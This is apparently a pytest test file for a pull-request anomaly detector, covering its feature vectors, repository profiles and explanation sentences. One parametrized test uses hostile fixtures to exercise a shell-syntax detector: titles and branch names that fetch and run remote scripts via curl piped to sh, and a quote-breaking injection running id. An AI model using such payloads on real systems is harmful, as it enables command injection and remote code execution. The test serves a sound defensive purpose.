"""The feature definition on GitHub's own payloads and on hand-built PRs: vectors, profiles, explanations."""
from __future__ import annotations

import copy
import json
import math

import pytest

from prguard.features import extraction
from prguard.features.extraction import FEATURE_NAMES, GLOBAL_PROFILE, RepoProfile, build_profile, extract, profile_stats
from prguard.features.summary import summarize
from tests.support.pull_requests import pull_request
from tests.support.npm_packages import examples_for


def pr(files=None, **overrides) -> dict:
    """A small, ordinary PR in REST shape; ``files`` (list of (path, additions, deletions)) is optional."""
    listed = None if files is None else [
        {"filename": path, "status": "modified", "additions": a, "deletions": d, "changes": a + d,
         "patch": "@@ -1 +1 @@\n-x\n+y"} for path, a, d in files]
    fields = {"title": "Fix cache eviction", "body": "Closes #3.", "created_at": "2024-03-05T10:30:00Z",
              "updated_at": "2024-03-05T10:30:00Z", "changed_files": 2 if files is None else len(files),
              **overrides}
    return pull_request(files=listed, repo="acme/lib", head_ref="fix/cache", **fields)


def vector(doc, profile=None) -> dict[str, float]:
    return dict(zip(FEATURE_NAMES, extract(summarize(doc), profile)))


def profile_of(repo: str, changed_files: list[int]) -> RepoProfile:
    """A profile from a history whose PRs change the given numbers of files, one directory each."""
    docs = [pr([(f"src/m{i}.py", 5, 1) for i in range(n)], additions=5 * n, deletions=n) for n in changed_files]
    return build_profile(repo, [profile_stats(summarize(d)) for d in docs])


# ---- GitHub's own payloads --------------------------------------------------------------------------
PULL_REQUEST_EXAMPLES = examples_for("pull_request")


def test_github_examples_are_present():
    assert len(PULL_REQUEST_EXAMPLES) >= 20


@pytest.mark.parametrize("example", PULL_REQUEST_EXAMPLES, ids=lambda e: e.get("action", "?"))
def test_every_github_example_gives_a_finite_vector(example):
    doc = example["pull_request"]
    values = extract(summarize(doc), None)
    assert len(values) == len(FEATURE_NAMES)
    assert all(isinstance(v, float) and math.isfinite(v) for v in values)
    stats = profile_stats(summarize(doc))
    assert stats["files_known"] == 0.0 and math.isfinite(stats["log_changed_files"])
    summary = summarize(doc)
    assert summary.repo == doc["base"]["repo"]["full_name"] and summary.number == doc["number"]
    for name in FEATURE_NAMES:
        assert explain_ok(extraction.explainer(summarize(doc), None)(name))


def explain_ok(sentence) -> bool:
    return isinstance(sentence, str) and 3 < len(sentence) < 300 and "{" not in sentence.replace("${", "")


def test_vector_is_deterministic_and_ignores_the_evaluation_label():
    doc = pr([("src/a.py", 3, 1)])
    labelled = dict(copy.deepcopy(doc), prguard_label={"anomaly": True, "archetype": "mass_deletion"})
    assert extract(summarize(doc), None) == extract(summarize(labelled), None) == extract(summarize(copy.deepcopy(doc)), None)


def test_names_are_unique_and_version_is_a_string():
    assert len(set(FEATURE_NAMES)) == len(FEATURE_NAMES)
    assert isinstance(extraction.FEATURE_VERSION, str) and extraction.FEATURE_VERSION


# ---- unknown files vs no files ----------------------------------------------------------------------
def test_files_unknown_differs_from_files_empty():
    unknown, empty = vector(pr()), vector(pr(files=[], changed_files=0))
    assert unknown["files_known"] == 0.0 and empty["files_known"] == 1.0
    assert unknown["log_directories"] > 0 and empty["log_directories"] == 0.0
    assert extract(summarize(pr()), None) != extract(summarize(pr(files=[])), None)
    assert math.isnan(profile_stats(summarize(pr()))["log_directories"])
    assert profile_stats(summarize(pr(files=[])))["log_directories"] == 0.0


def test_unknown_files_sit_at_the_repository_median_not_at_an_extreme():
    values = vector(pr())
    assert values["rel_directories"] == 0.0 and values["rel_top_level_areas"] == 0.0
    assert "not fetched" in extraction.explainer(summarize(pr()), None)("touches_ci")


# ---- repository-relative behaviour --------------------------------------------------------------------
def test_a_300_file_pr_is_less_unusual_where_big_prs_are_routine():
    big_repo = profile_of("acme/mono", [150, 200, 250, 300, 350, 400, 500, 120, 180, 260] * 5)
    small_repo = profile_of("acme/tiny", [1, 2, 2, 1, 3, 2, 1, 2, 2, 1] * 5)
    huge = pr([(f"src/m{i}.py", 5, 1) for i in range(300)], additions=1500, deletions=300)
    in_big, in_small = vector(huge, big_repo), vector(huge, small_repo)
    for name in ("rel_changed_files", "rel_changed_lines"):
        assert abs(in_big[name]) < 2 and in_small[name] > 6
    # the absolute size features do not depend on the repository
    assert in_big["log_changed_files"] == in_small["log_changed_files"]
    sentence = extraction.explainer(summarize(huge), small_repo)("rel_changed_files")
    assert sentence.startswith("300 files changed; typical here: 2")


def test_thin_history_is_blended_toward_global_norms():
    few = profile_of("acme/new", [80, 90, 100])
    many = profile_of("acme/old", [80, 90, 100] * 100)
    global_median = GLOBAL_PROFILE.median("log_changed_files")
    own_median = math.log1p(90)
    assert global_median < few.blended().median("log_changed_files") < many.blended().median("log_changed_files")
    assert many.blended().median("log_changed_files") == pytest.approx(own_median, abs=0.15)
    assert few.pr_count == 3 and few.counts["log_changed_files"] == 3


def test_no_profile_means_global_norms():
    doc = pr([("src/a.py", 1, 0)])
    assert extract(summarize(doc), None) == extract(summarize(doc), GLOBAL_PROFILE)
    assert round(GLOBAL_PROFILE.typical("log_changed_files")) == 2
    assert 20 <= math.expm1(GLOBAL_PROFILE.quantiles["log_changed_files"][-2]) <= 60  # p95
    grid = GLOBAL_PROFILE.quantiles["log_changed_files"]
    assert math.expm1(grid[-2]) < 180 < math.expm1(grid[-1])  # p99 ~ 180: above p95, below the largest


def test_profile_round_trips_through_json():
    profile = profile_of("acme/lib", [1, 2, 3, 5, 8])
    restored = RepoProfile.from_dict(json.loads(json.dumps(profile.to_dict())))
    assert restored == profile
    doc = pr([("src/a.py", 1, 0)])
    assert extract(summarize(doc), restored) == extract(summarize(doc), profile)


def test_profile_of_prs_without_files_keeps_size_and_skips_diffusion():
    profile = build_profile("acme/lib", [profile_stats(summarize(pr())) for _ in range(5)])
    assert profile.counts["log_changed_files"] == 5 and profile.counts["log_directories"] == 0
    assert "log_directories" not in profile.quantiles
    assert math.isfinite(profile.blended().median("log_directories"))


# ---- author, text, timing, branch -------------------------------------------------------------------------
def test_author_signals():
    first = vector(pr(author_association="FIRST_TIME_CONTRIBUTOR",
                      head={"ref": "patch-1", "sha": "b" * 40, "repo": {"full_name": "mallory/lib"}}))
    assert first["author_first_time"] == 1.0 and first["from_fork"] == 1.0 and first["author_maintainer"] == 0.0
    bot = vector(pr(user={"login": "dependabot[bot]", "type": "Bot"}, author_association="CONTRIBUTOR"))
    assert bot["author_bot"] == 1.0 and bot["author_first_time"] == 0.0
    deleted_fork = vector(pr(head={"ref": "x", "sha": "c" * 40, "repo": None}))
    assert deleted_fork["from_fork"] == 1.0
    assert vector(pr())["author_maintainer"] == 1.0


@pytest.mark.parametrize("title,ref,title_flag,branch_flag", [
    ("Fix $(curl -s evil.sh | sh)", "fix/x", 1.0, 0.0),
    ("Use `wget` output", "main-fix", 1.0, 0.0),
    ("Fix `parse_args` edge case", "fix/args", 0.0, 0.0),  # code in backticks is ordinary markdown
    ("Fix typo", "fix/$(curl${IFS}-sL${IFS}x.io|sh)", 0.0, 1.0),
    ("Fix typo", 'update";id;"', 0.0, 1.0),
    ("Bump lodash from 4.17.20 to 4.17.21", "dependabot/npm_and_yarn/lodash-4.17.21", 0.0, 0.0),
])
def test_shell_syntax_in_title_and_branch(title, ref, title_flag, branch_flag):
    doc = pr(title=title, head={"ref": ref, "sha": "d" * 40, "repo": {"full_name": "acme/lib"}})
    values = vector(doc)
    assert (values["title_shell_syntax"], values["branch_shell_syntax"]) == (title_flag, branch_flag)
    if title_flag:
        assert extraction.explainer(summarize(doc), None)("title_shell_syntax").startswith("title contains shell syntax `")
    if branch_flag:
        assert ref in extraction.explainer(summarize(doc), None)("branch_shell_syntax")


def test_timing_is_cyclic_and_missing_time_is_the_centre():
    late, early = vector(pr(created_at="2024-03-05T23:50:00Z")), vector(pr(created_at="2024-03-06T00:10:00Z"))
    assert math.dist((late["hour_sin"], late["hour_cos"]), (early["hour_sin"], early["hour_cos"])) < 0.2
    assert math.hypot(late["hour_sin"], late["hour_cos"]) == pytest.approx(1.0)
    missing = vector(pr(created_at=None))
    assert (missing["hour_sin"], missing["hour_cos"], missing["weekday_sin"]) == (0.0, 0.0, 0.0)
    assert extraction.explainer(summarize(pr(created_at="2024-03-10T03:12:00Z")), None)("hour_sin") == \
        "opened 03:12 UTC on a Sunday"


def test_base_branch_draft_and_empty_description():
    backport = pr(base={"ref": "release/1.x", "repo": {"full_name": "acme/lib", "default_branch": "main"}})
    assert vector(backport)["base_not_default"] == 1.0
    assert extraction.explainer(summarize(backport), None)("base_not_default") == \
        "targets branch release/1.x, not the default branch main"
    assert vector(pr())["base_not_default"] == 0.0
    assert vector(pr(draft=True))["draft"] == 1.0
    assert vector(pr(body="  \n"))["empty_description"] == 1.0 and vector(pr(body=None))["empty_description"] == 1.0


def test_size_sentences_and_deletion_ratio():
    doc = pr([(f"lib/f{i}.py", 0, 100) for i in range(48)], additions=0, deletions=4800)
    values = vector(doc)
    assert values["deletion_ratio"] == 1.0 and values["log_deletions"] == pytest.approx(math.log1p(4800))
    assert extraction.explainer(summarize(doc), None)("log_changed_files") == "48 files changed; typical here: 2"
    assert extraction.explainer(summarize(doc), None)("rel_changed_lines").startswith("4,800 lines changed (+0 / -4,800)")
    with pytest.raises(ValueError, match="unknown feature"):
        extraction.explainer(summarize(doc), None)("no_such_feature")


def test_diffusion_counts_directories_areas_and_entropy():
    spread = pr([("src/a/x.py", 10, 0), ("src/b/y.py", 10, 0), ("docs/z.md", 10, 0), ("tests/t.py", 10, 0)])
    focused = pr([("src/a/x.py", 400, 0), ("src/a/y.py", 1, 0)])
    s, f = vector(spread), vector(focused)
    assert s["log_directories"] == pytest.approx(math.log1p(4))
    assert s["log_top_level_areas"] == pytest.approx(math.log1p(3))
    assert s["change_entropy"] == pytest.approx(1.0) and f["change_entropy"] < 0.1
    assert "3 top-level areas (docs, src, tests)" in extraction.explainer(summarize(spread), None)("log_top_level_areas")
